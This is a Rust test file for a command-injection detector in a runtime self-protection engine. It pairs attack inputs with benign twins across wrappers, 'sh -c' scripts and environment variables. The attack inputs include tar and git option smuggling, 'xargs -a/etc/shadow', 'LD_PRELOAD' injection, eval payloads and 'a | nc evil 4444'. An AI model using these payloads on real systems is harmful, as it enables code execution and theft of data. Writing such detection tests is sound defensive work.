//! Table-driven tests of the command shapes beyond the first word: wrappers, options anywhere
//! in argv and in every command of a script, option arguments and `--`, positional parameters
//! of `sh -c`, environment variables named by input or re-evaluated by the script. Every
//! attack has a benign twin next to it.

use rasp_engine::cmd::{detect, CmdLocation, CmdRule, CommandLine};
use rasp_engine::input::{Input, InputSource};
use rasp_engine::{ContextLimits, RequestContext};

use CmdRule::{Env, Program, Shell};
const OPTION: CmdRule = CmdRule::Option;

fn ctx(input: &str) -> RequestContext {
    RequestContext::from_inputs(
        vec![
            Input::value(InputSource::Query, "q", input),
            Input::value(InputSource::Header, "Accept", "text/html,*/*;q=0.8"),
        ],
        ContextLimits::default(),
    )
}

fn argv(template: &[&str], input: &str) -> Vec<String> {
    template.iter().map(|a| a.replace("{}", input)).collect()
}

/// `Runtime.exec(String)`: split on whitespace, no shell.
fn exec_string(template: &str, input: &str) -> Vec<String> {
    template
        .replace("{}", input)
        .split_whitespace()
        .map(str::to_owned)
        .collect()
}

/// Environment entries, `{}` where the input goes.
type EnvTemplate<'a> = &'a [(&'a str, &'a str)];

fn check(argv: Vec<String>, env: &[(&str, &str)], input: &str) -> Option<CmdRule> {
    let cmd = CommandLine {
        argv,
        env: env
            .iter()
            .map(|(n, v)| (n.replace("{}", input), v.replace("{}", input)))
            .collect(),
    };
    detect(&ctx(input), &cmd).map(|f| f.rule)
}

fn assert_argv(cases: &[(&[&str], &str, Option<CmdRule>)]) {
    for (template, input, want) in cases {
        let got = check(argv(template, input), &[], input);
        assert_eq!(got, *want, "input {input:?} in {template:?}");
    }
}

#[test]
fn options_behind_wrappers() {
    let attack = "--checkpoint-action=exec=touch /tmp/m";
    let cases: &[(&[&str], &str, Option<CmdRule>)] = &[
        (
            &["timeout", "5", "tar", "-cf", "/tmp/a.tar", "{}"],
            attack,
            Some(OPTION),
        ),
        (
            &["timeout", "5", "tar", "-cf", "/tmp/a.tar", "{}"],
            "docs",
            None,
        ),
        (
            &["timeout", "-s", "KILL", "5", "tar", "cf", "a.tar", "{}"],
            attack,
            Some(OPTION),
        ),
        (
            &["timeout", "-s", "KILL", "5", "tar", "cf", "a.tar", "{}"],
            "-",
            None,
        ),
        (
            &["nice", "-n", "10", "tar", "-cf", "a.tar", "{}"],
            attack,
            Some(OPTION),
        ),
        (
            &["nice", "-n", "10", "tar", "-cf", "a.tar", "{}"],
            "docs-2024",
            None,
        ),
        (
            &["env", "-i", "PATH=/bin", "tar", "-cf", "a.tar", "{}"],
            attack,
            Some(OPTION),
        ),
        (
            &["env", "-i", "PATH=/bin", "tar", "-cf", "a.tar", "{}"],
            "a b",
            None,
        ),
        (
            &["nohup", "tar", "-cf", "a.tar", "{}"],
            attack,
            Some(OPTION),
        ),
        (&["nohup", "tar", "-cf", "a.tar", "{}"], "docs", None),
        (
            &["stdbuf", "-oL", "tar", "-cf", "a.tar", "{}"],
            attack,
            Some(OPTION),
        ),
        (
            &["stdbuf", "-o", "L", "tar", "-cf", "a.tar", "{}"],
            "docs",
            None,
        ),
        (
            &["xargs", "-0", "git", "ls-remote", "{}"],
            "--upload-pack=touch /tmp/m",
            Some(OPTION),
        ),
        (
            &["xargs", "-0", "git", "ls-remote", "{}"],
            "https://example.com/r.git",
            None,
        ),
        (
            &["sudo", "-u", "www", "tar", "-cf", "a.tar", "{}"],
            attack,
            Some(OPTION),
        ),
        (
            &["sudo", "-u", "www", "tar", "-cf", "a.tar", "{}"],
            "docs",
            None,
        ),
        (
            &["nice", "timeout", "5", "tar", "-cf", "a.tar", "{}"],
            attack,
            Some(OPTION),
        ),
        // The wrapper's own options, when they run code: xargs -a reads any file as arguments,
        // sudo -s runs a shell.
        (&["xargs", "{}", "echo"], "-a/etc/shadow", Some(OPTION)),
        (&["xargs", "-n", "{}", "echo"], "-1", None),
        (&["sudo", "{}", "id"], "-s", Some(OPTION)),
        (&["sudo", "-u", "{}", "id"], "-www", None),
        // The program behind a wrapper.
        (&["timeout", "5", "{}"], "/tmp/evil.sh", Some(Program)),
        (&["timeout", "5", "ls", "{}"], "/tmp/evil.sh", None),
        (&["xargs", "-0", "{}", "-c", "id"], "/bin/sh", Some(Program)),
        (&["xargs", "-0", "rm", "{}"], "/bin/sh", None),
    ];
    assert_argv(cases);
}

#[test]
fn options_anywhere_in_argv_with_their_arguments_as_data() {
    let attack = "--checkpoint-action=exec=touch /tmp/m";
    let cases: &[(&[&str], &str, Option<CmdRule>)] = &[
        // `--` ends the options.
        (&["tar", "-cf", "a.tar", "{}"], attack, Some(OPTION)),
        (&["tar", "-cf", "a.tar", "--", "{}"], attack, None),
        (
            &["tar", "-cf", "a.tar", "{}", "notes.txt"],
            "-v",
            Some(OPTION),
        ),
        (
            &["tar", "-cf", "a.tar", "--", "{}", "notes.txt"],
            "-v",
            None,
        ),
        // An option's argument is data, whatever it looks like.
        (
            &["tar", "-C", "{}", "-cf", "a.tar", "."],
            "--to-command=id",
            None,
        ),
        (
            &["tar", "-C", "/d", "{}", "-cf", "a.tar", "."],
            "--to-command=id",
            Some(OPTION),
        ),
        (
            &["tar", "cf", "a.tar", "{}"],
            "--to-command=id",
            Some(OPTION),
        ),
        (&["tar", "cf", "{}", "x"], "--to-command=id", None),
        (&["git", "grep", "-e", "{}"], "-Xmx512m", None),
        (
            &["git", "grep", "{}"],
            "--open-files-in-pager=id",
            Some(OPTION),
        ),
        (&["git", "-C", "{}", "status"], "-c", None),
        (
            &["git", "-C", "/repo", "{}", "status"],
            "-cx=y",
            Some(OPTION),
        ),
        (&["git", "log", "--format=%H", "-n", "{}"], "-1", None),
        (
            &["curl", "-d", "{}", "https://api.example/x"],
            "-o/tmp/x.jsp",
            None,
        ),
        (
            &["curl", "{}", "https://api.example/x"],
            "-o/tmp/x.jsp",
            Some(OPTION),
        ),
        (
            &["curl", "-sSo", "/tmp/out", "{}"],
            "-K/tmp/cfg",
            Some(OPTION),
        ),
        (&["find", "/data", "-name", "{}"], "-exec", None),
        (
            &["find", "/data", "-name", "x", "{}"],
            "-delete",
            Some(OPTION),
        ),
        (
            &["find", "/data", "-exec", "grep", "-l", "{}", "{}", ";"],
            "-x",
            None,
        ),
        // The input ahead of the application's text starts an option all the same.
        (&["curl", "{}.example.com"], "-o/tmp/x", Some(OPTION)),
        (&["curl", "https://{}.example.com"], "-o/tmp/x", None),
        // An interpreter's options end at the script: what follows is the script's.
        (&["python3", "/opt/app/tool.py", "{}"], "-c", None),
        (
            &["python3", "{}", "/opt/app/tool.py"],
            "-cimport os",
            Some(OPTION),
        ),
        (&["java", "-jar", "/opt/app.jar", "{}"], "-Xmx512m", None),
        (
            &["java", "{}", "-jar", "/opt/app.jar"],
            "-XX:OnOutOfMemoryError=id",
            Some(OPTION),
        ),
        (&["bash", "/opt/run.sh", "{}"], "-c", None),
        (&["ffmpeg", "-i", "{}", "out.mp4"], "-f", None),
        (
            &["convert", "in.png", "-resize", "{}", "out.png"],
            "-write",
            None,
        ),
    ];
    assert_argv(cases);
}

#[test]
fn runtime_exec_string_splits_input_into_options() {
    let cases: &[(&str, &str, Option<CmdRule>)] = &[
        (
            "find /data -name {}",
            "* -exec touch /tmp/m ;",
            Some(OPTION),
        ),
        ("find /data -name {}", "*.txt", None),
        ("find /data -name {}", "-exec", None),
        (
            "find /data -name {} -type f",
            "x -fprint /tmp/out",
            Some(OPTION),
        ),
        ("find /data -name {} -type f", "report 2024.txt", None),
        (
            "tar -cf /tmp/a.tar -C /data {}",
            "x --to-command=id",
            Some(OPTION),
        ),
        ("tar -cf /tmp/a.tar -C /data {}", "docs reports", None),
        (
            "tar -cf /tmp/a.tar -C /data -- {}",
            "x --to-command=id",
            None,
        ),
        ("git grep -e {}", "-Xmx512m", None),
        ("git grep -e {}", "x --open-files-in-pager=id", Some(OPTION)),
        ("timeout 5 {} -la", "/tmp/evil.sh", Some(Program)),
        ("timeout 5 ls -la {}", "/tmp/evil.sh", None),
    ];
    for (template, input, want) in cases {
        let got = check(exec_string(template, input), &[], input);
        assert_eq!(got, *want, "input {input:?} in Runtime.exec({template:?})");
    }
}

#[test]
fn every_command_of_a_script() {
    let attack = "--checkpoint=1 --checkpoint-action=exec=touch /tmp/m";
    let cases: &[(&[&str], &str, Option<CmdRule>)] = &[
        (
            &["sh", "-c", "cd /data && tar -cf a.tar {}"],
            attack,
            Some(OPTION),
        ),
        (
            &["sh", "-c", "cd /data && tar -cf a.tar {}"],
            "docs reports",
            None,
        ),
        (
            &["sh", "-c", "echo start; tar -cf a.tar {}"],
            "--to-command=id",
            Some(OPTION),
        ),
        (&["sh", "-c", "echo start; tar -cf a.tar {}"], "docs", None),
        (
            &["sh", "-c", "ls\ntar -cf a.tar {} || true"],
            "--to-command=id",
            Some(OPTION),
        ),
        (&["sh", "-c", "ls\ntar -cf a.tar {} || true"], "x", None),
        (
            &["sh", "-c", "ls | xargs tar -cf a.tar {}"],
            "--to-command=id",
            Some(OPTION),
        ),
        (&["sh", "-c", "ls | xargs tar -cf a.tar {}"], "docs", None),
        (
            &["sh", "-c", "echo $(tar -cf a.tar {})"],
            "--to-command=id",
            Some(OPTION),
        ),
        (&["sh", "-c", "echo $(tar -cf a.tar {})"], "docs", None),
        (&["sh", "-c", "echo \"$(cat {})\""], "notes.txt", None),
        (
            &["sh", "-c", "tar -cf a.tar '{}'"],
            "--to-command=id",
            Some(OPTION),
        ),
        (
            &["sh", "-c", "tar -cf a.tar '{}'"],
            "docs; not a command",
            None,
        ),
        (
            &["sh", "-c", "tar -cf a.tar -- {}"],
            "--to-command=id",
            None,
        ),
        (&["sh", "-c", "git grep -e {} -- src"], "-Xmx512m", None),
        (
            &["sh", "-c", "git grep -e x {} -- src"],
            "--open-files-in-pager=id",
            Some(OPTION),
        ),
        (
            &["sh", "-c", "cd /d; timeout 5 tar -cf a.tar {}"],
            "--to-command=id",
            Some(OPTION),
        ),
        (
            &["sh", "-c", "cd /d; timeout 5 tar -cf a.tar {}"],
            "docs",
            None,
        ),
        (
            &["timeout", "9", "sh", "-c", "tar -cf a.tar {}"],
            "--to-command=id",
            Some(OPTION),
        ),
        (
            &["timeout", "9", "sh", "-c", "ping -c 1 {}"],
            "x; id",
            Some(Shell),
        ),
        (
            &["timeout", "9", "sh", "-c", "ping -c 1 {}"],
            "example.com",
            None,
        ),
        // The input is the program of a command of the script.
        (&["sh", "-c", "{}"], "touch /tmp/m", Some(Program)),
        (&["sh", "-c", "{}"], "reboot", Some(Program)),
        (&["sh", "-c", "ls {}"], "/tmp/m", None),
        (
            &["sh", "-c", "cd /data && {} -la"],
            "/bin/ls",
            Some(Program),
        ),
        (&["sh", "-c", "cd /data && ls -la {}"], "/bin/ls", None),
        (
            &["sh", "-c", "cd /d; timeout 5 {}"],
            "/tmp/x.sh",
            Some(Program),
        ),
        (&["sh", "-c", "cd /d; timeout 5 ls {}"], "/tmp/x.sh", None),
    ];
    assert_argv(cases);
}

#[test]
fn positional_parameters_of_sh_c_are_data() {
    let echo: &[&str] = &["sh", "-c", "echo \"$1\"", "name", "{}"];
    let cases: &[(&[&str], &str, Option<CmdRule>)] = &[
        (echo, "; touch /tmp/m", None),
        (echo, "$(touch /tmp/m)", None),
        (echo, "it's", None),
        (
            &[
                "bash",
                "-c",
                "grep -c -- \"$1\" /var/log/app.log",
                "grep",
                "{}",
            ],
            "a | b",
            None,
        ),
        (
            &["sh", "-c", "printf '%s\\n' \"$@\"", "sh", "a", "{}"],
            "`id`",
            None,
        ),
        // ... unless the script runs them as a script or hands them to a program as options.
        (
            &["sh", "-c", "eval \"$1\"", "name", "{}"],
            "x; touch /tmp/m",
            Some(Shell),
        ),
        (
            &["sh", "-c", "eval \"echo $1\"", "name", "{}"],
            "hello world",
            None,
        ),
        (
            &["sh", "-c", "eval \"echo $1\"", "name", "{}"],
            "hi; touch /tmp/m",
            Some(Shell),
        ),
        (
            &["sh", "-c", "tar -cf a.tar \"$@\"", "tar", "{}"],
            "--to-command=id",
            Some(OPTION),
        ),
        (
            &["sh", "-c", "tar -cf a.tar -- \"$@\"", "tar", "{}"],
            "--to-command=id",
            None,
        ),
        (
            &["sh", "-c", "tar -cf a.tar \"$@\"", "tar", "{}"],
            "docs",
            None,
        ),
        (
            &["sh", "-c", "$1", "name", "{}"],
            "touch /tmp/m",
            Some(Program),
        ),
        (&["sh", "-c", "ls $1", "name", "{}"], "touch /tmp/m", None),
    ];
    assert_argv(cases);
}

#[test]
fn environment_names_from_input() {
    // (env entries, input, want): `{}` in a name or value is the input.
    let bash: &[&str] = &["bash", "-c", "echo ok"];
    let cases: &[(EnvTemplate, &str, Option<CmdRule>)] = &[
        // The whole `NAME=value` came from the request, whatever the name.
        (
            &[("BASH_ENV", "$(touch /tmp/m)")],
            "BASH_ENV=$(touch /tmp/m)",
            Some(Env),
        ),
        (&[("NOTE", "{}")], "BASH_ENV=$(touch /tmp/m)", None),
        (&[("GREETING", "hello")], "GREETING=hello", Some(Env)),
        (&[("GREETING", "{}")], "GREETING=hello", None),
        // The name alone.
        (&[("LD_PRELOAD", "/opt/lib/ok.so")], "LD_PRELOAD", Some(Env)),
        (&[("LANG", "C.UTF-8")], "LD_PRELOAD", None),
        (&[("APP_{}", "1")], "MODE", None),
    ];
    for (env, input, want) in cases {
        let got = check(argv(bash, input), env, input);
        assert_eq!(got, *want, "input {input:?} with env {env:?}");
    }
    // `env NAME=value prog` on the command line.
    let cases: &[(&[&str], &str, Option<CmdRule>)] = &[
        (
            &["env", "{}", "/usr/bin/id"],
            "LD_PRELOAD=/tmp/x.so",
            Some(Env),
        ),
        (&["env", "GREETING={}", "/usr/bin/id"], "hello-world", None),
        (
            &["env", "LD_PRELOAD={}", "/usr/bin/id"],
            "/tmp/x.so",
            Some(Env),
        ),
    ];
    assert_argv(cases);
}

#[test]
fn environment_values_a_script_re_evaluates() {
    let attack = "x; touch /tmp/m";
    let cases: &[(&str, &str, Option<CmdRule>)] = &[
        ("eval \"$V\"", attack, Some(Env)),
        ("grep -- \"$V\" /var/log/app.log", attack, None),
        ("eval \"$V\"", "touch /tmp/m", Some(Env)),
        ("echo \"$V\"", "touch /tmp/m", None),
        ("eval $V", attack, Some(Env)),
        ("echo $V", attack, None),
        ("eval \"echo $V\"", "hello world", None),
        ("eval \"echo $V\"", "hello $(id)", Some(Env)),
        ("eval \"echo ${V}\"", "hello `id`", Some(Env)),
        ("sh -c \"$V\"", attack, Some(Env)),
        ("bash -c \"$V\"", "a | nc evil 4444", Some(Env)),
        ("sh -c 'echo \"$1\"' x \"$V\"", attack, None),
        (
            "printf '%s\\n' \"$V\" | xargs sh -c",
            "touch /tmp/m",
            Some(Env),
        ),
        ("printf '%s\\n' \"$V\" | xargs echo", "touch /tmp/m", None),
        (
            "printf '%s\\n' \"$V\" | xargs -I{} sh -c 'echo {}'",
            attack,
            Some(Env),
        ),
        (
            "printf '%s\\n' \"$V\" | xargs sh -c 'echo \"$0\"'",
            attack,
            None,
        ),
        ("echo \"$V\" | sh", attack, Some(Env)),
        ("echo \"$V\" | bash -s -- a", "touch /tmp/m", Some(Env)),
        ("echo \"$V\" | sh /opt/filter.sh", attack, None),
        ("echo \"$V\" | grep -c x", attack, None),
        ("$V", "touch /tmp/m", Some(Env)),
        ("ls $V", "touch /tmp/m", None),
        ("tar -cf a.tar $V", "--to-command=id", Some(Env)),
        ("tar -cf a.tar -- $V", "--to-command=id", None),
        ("eval \"$V\"", "it's", Some(Env)),
    ];
    for (script, value, want) in cases {
        let got = check(
            vec!["sh".into(), "-c".into(), script.to_string()],
            &[("V", "{}")],
            value,
        );
        assert_eq!(got, *want, "V={value:?} for sh -c {script:?}");
    }
    // Nested: `sh -c "sh -c \"\$V\""`, the outer script runs an inner shell on $V.
    let nested = vec!["sh".into(), "-c".into(), "sh -c \"$V\"".into()];
    assert_eq!(check(nested.clone(), &[("V", "{}")], attack), Some(Env));
    assert_eq!(
        check(nested, &[("V", "{}")], "hello"),
        Some(Env),
        "a program"
    );
    let twin = vec![
        "sh".into(),
        "-c".into(),
        "sh -c 'echo \"$1\"' n \"$V\"".into(),
    ];
    assert_eq!(check(twin, &[("V", "{}")], attack), None);
}

#[test]
fn findings_name_the_input_and_where_it_is() {
    let input = "x; touch /tmp/m";
    let cmd = CommandLine {
        argv: vec!["sh".into(), "-c".into(), "eval \"$V\"".into()],
        env: vec![("HOME".into(), "/root".into()), ("V".into(), input.into())],
    };
    let f = detect(&ctx(input), &cmd).expect("finding");
    assert_eq!(f.rule, Env);
    assert_eq!(f.input, 0);
    assert!(
        matches!(f.location, CmdLocation::Env { index: 1, .. }),
        "{f:?}"
    );

    let input = "* -exec touch /tmp/m ;";
    let cmd = CommandLine {
        argv: exec_string("find /data -name {}", input),
        env: vec![],
    };
    let f = detect(&ctx(input), &cmd).expect("finding");
    assert_eq!(f.rule, OPTION);
    let line = cmd.line();
    let CmdLocation::CommandLine { start, end } = f.location else {
        panic!("{f:?}")
    };
    assert_eq!(&line[start..end], input);
}
